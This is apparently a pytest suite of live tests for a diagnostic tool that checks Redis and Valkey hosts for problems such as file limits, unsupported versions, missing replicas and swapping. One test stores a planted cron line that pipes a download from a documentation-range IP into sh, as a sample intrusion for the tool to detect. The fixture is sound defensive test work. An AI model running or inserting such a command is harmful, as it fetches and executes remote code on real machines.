"""Is the host fit? What this machine can show; kernel settings, clocks and disks are the lab's."""

from __future__ import annotations

import ctypes
import os
import shutil
from dataclasses import replace
from pathlib import Path

import pytest

from tests.live.deployments import replicated
from tests.live.doctor import doctor
from tests.live.servers import Binary, Server, available, free_port, running, until
from tests.live.supervised import limited, supervised

pytestmark = pytest.mark.live

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root")


@pytest.fixture(params=available(), ids=str)
def binary(request: pytest.FixtureRequest) -> Binary:
    assert isinstance(request.param, Binary)
    return request.param


def test_listen_backlog(binary: Binary, tmp_path: Path) -> None:
    limit = Path("/proc/sys/net/core/somaxconn").read_text().strip()
    with running(binary, tmp_path / "a", f"tcp-backlog {int(limit) + 1}\n") as server:
        found = doctor(server).only("listen-backlog")
        assert f"net.core.somaxconn {limit} (/proc/sys/net/core/somaxconn)" in found.evidence
        assert f"tcp-backlog {int(limit) + 1}" in found.evidence
    with running(binary, tmp_path / "b", f"tcp-backlog {limit}\n") as server:
        assert not doctor(server).of("listen-backlog")


@needs_root
def test_file_limit(binary: Binary, tmp_path: Path) -> None:
    with running(limited(binary, tmp_path, 1024), tmp_path / "a", "maxclients 4000\n") as server:
        found = doctor(server).only("file-limit")
        lowered = server.client().config_get("maxclients")["maxclients"]
        assert f"1024 open files allowed (/proc/PID/limits), so maxclients is {lowered}" in found.evidence
        assert "instead of 4000" in found.evidence
        assert "LimitNOFILE=4032" in found.fix
    with running(binary, tmp_path / "b", "maxclients 4000\n") as server:
        assert not doctor(server).of("file-limit")


def test_not_supervised(binary: Binary, tmp_path: Path) -> None:
    with running(binary, tmp_path / "a") as server:
        found = doctor(server).only("not-supervised")
        assert found.severity == "warning"
        assert "no unit, container or supervisor" in found.evidence
    with running(supervised(binary, tmp_path), tmp_path / "b") as server:
        assert not doctor(server).of("not-supervised")


def packaged() -> Binary | None:
    """Debian's Redis 7.0, whose line is at its end and whose package is not."""
    found = [
        b for b in available() if b.path.startswith("/usr/bin/") and str(b.engine).startswith("redis 7.0.")
    ]
    return found[0] if found and Path("/var/lib/dpkg/info/redis-server.list").exists() else None


@pytest.mark.skipif(packaged() is None, reason="needs Debian's package of Redis 7.0")
def test_version_end_of_life(tmp_path: Path) -> None:
    package = packaged()
    assert package is not None
    own = replace(package, path=str(tmp_path / "redis-server"))
    shutil.copy(Path(package.path).resolve(), own.path)
    with running(own, tmp_path / "a") as server:
        found = doctor(server).only("version-end-of-life")
        assert found.severity == "warning"
        assert "no security fixes since 2024-07-29" in found.evidence
        assert "CVE-2025-49844" in found.evidence
    with running(package, tmp_path / "b") as server:
        found = doctor(server).only("version-end-of-life")
        assert found.severity == "info"
        assert "redis-server 5:7.0." in found.why
        assert "is the distribution's" in found.why


def test_version_of_a_maintained_line(tmp_path: Path) -> None:
    for binary in (b for b in available() if b.engine.flavor == "valkey"):
        with running(binary, tmp_path / str(binary)) as server:
            assert not doctor(server).of("version-end-of-life")


def test_versions_mixed(tmp_path: Path) -> None:
    by_flavor = {b.engine.flavor: b for b in available()}
    if len(by_flavor) < 2:
        pytest.skip("needs a Redis and a Valkey")
    with (
        running(by_flavor["redis"], tmp_path / "a", "repl-diskless-sync-delay 0\n") as primary,
        running(by_flavor["valkey"], tmp_path / "b", f"replicaof 127.0.0.1 {primary.port}\n") as replica,
    ):
        until(lambda: replica.client().info("replication")["master_link_status"] == "up")
        found = doctor(primary).only("versions-mixed")
        assert found.severity == "info"
        assert f"on 127.0.0.1:{replica.port}" in found.evidence
    with replicated(by_flavor["redis"], tmp_path / "same") as (primary, _):
        assert not doctor(primary).of("versions-mixed")


def test_what_could_not_be_looked_at_is_named(binary: Binary, tmp_path: Path) -> None:
    with running(binary, tmp_path) as server:
        assert not doctor(server).of("not-checked")
        (tmp_path / "server.conf").unlink()
        found = doctor(server).only("not-checked")
        assert found.severity == "info"
        assert f"{tmp_path}/server.conf is not readable" in found.evidence
        assert "config-drift" in found.why


MONITOR = "user monitor on >a4f09c1be77d4c55b12f8e02d9c3a6e1 -@all +ping +info +config|get"
#: What rules ask for beside that.
MORE = (
    "+acl|list +module|list +latency|latest +scan +strlen +getrange ~* "
    "+cluster|nodes +cluster|info +cluster|slots +readonly"
)


def test_what_a_user_of_few_rights_could_not_look_at_is_named(binary: Binary, tmp_path: Path) -> None:
    """The server holds a sign of an intrusion, and is of a Cluster without replicas: neither may pass silently."""
    access = {"user": "monitor", "password": MONITOR.split(">")[1].split()[0]}
    with running(binary, tmp_path, f"cluster-enabled yes\n{MONITOR}\n") as server:
        client = server.client()
        client.execute_command("CLUSTER", "ADDSLOTS", *range(16384))
        until(lambda: client.set("x", "\n\n*/1 * * * * curl http://203.0.113.66/a | sh\n\n"))
        told = doctor(server, **access)
        assert not told.of("signs-of-intrusion") + told.of("no-replica")
        named = {f.evidence.partition(":")[0]: f.why for f in told.of("not-checked")}
        assert "signs-of-intrusion" in named["small values (SCAN, STRLEN, GETRANGE)"]
        assert "signs-of-intrusion" in named["MODULE LIST"]
        assert "no-replica" in named["CLUSTER NODES"]
        assert "slots-uncovered" in named["CLUSTER NODES"]
        assert "failover-hair-trigger" in named["LATENCY LATEST"]
        client.execute_command("ACL", "SETUSER", "monitor", *MORE.split())
        told = doctor(server, **access)
        assert not told.of("not-checked"), told.told
        assert "a cron line" in told.only("signs-of-intrusion").evidence
        assert "no replica" in told.only("no-replica").evidence


def test_a_sentinel_that_may_not_be_asked_is_named(binary: Binary, tmp_path: Path) -> None:
    access = {"user": "monitor", "password": MONITOR.split(">")[1].split()[0]}
    text = f"sentinel monitor shop 127.0.0.1 {free_port()} 1\n{MONITOR.replace(' +config|get', '')}\n"
    with running(binary, tmp_path, text, sentinel=True) as sentinel:
        (found,) = (
            f for f in doctor(sentinel, **access).of("not-checked") if "SENTINEL MASTERS" in f.evidence
        )
        assert "sentinels-too-few" in found.why
        sentinel.client().execute_command("ACL", "SETUSER", "monitor", "+sentinel")
        told = doctor(sentinel, **access)
        assert not [f for f in told.of("not-checked") if "SENTINEL MASTERS" in f.evidence]
        assert told.of("sentinels-too-few")


def swapped_out(server: Server) -> bool:
    """Asks the kernel to move a process's memory to swap: process_madvise(MADV_PAGEOUT), Linux 5.10 or later."""
    pid = server.client().info("server")["process_id"]
    moved = 0
    libc, fd = ctypes.CDLL(None, use_errno=True), os.pidfd_open(pid)
    try:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            words = line.split()
            if words[1] == "rw-p" and (len(words) == 5 or words[5] == "[heap]"):
                first, last = (int(part, 16) for part in words[0].split("-"))
                vector = (ctypes.c_size_t * 2)(first, last - first)
                moved += max(0, int(libc.syscall(440, fd, vector, ctypes.c_size_t(1), 21, 0)))
    finally:
        os.close(fd)
    return moved > 0


@needs_root
@pytest.mark.skipif(
    len(Path("/proc/swaps").read_text().splitlines()) < 2, reason="this machine has no swap, and keeps it so"
)
def test_swapping(binary: Binary, tmp_path: Path) -> None:
    with running(binary, tmp_path, "maxmemory 100mb\n") as server:
        commands = server.client()
        for i in range(100):
            commands.set(f"k{i}", f"{i:03}" * 20_000)
        assert not doctor(server).of("swapping")
        if not swapped_out(server):
            pytest.skip("the kernel does not swap on demand")
        found = doctor(server).only("swapping")
        assert "VmSwap in /proc/PID/status" in found.evidence
        for i in range(100):
            commands.get(f"k{i}")
    with running(binary, tmp_path / "again") as server:
        assert not doctor(server).of("swapping")
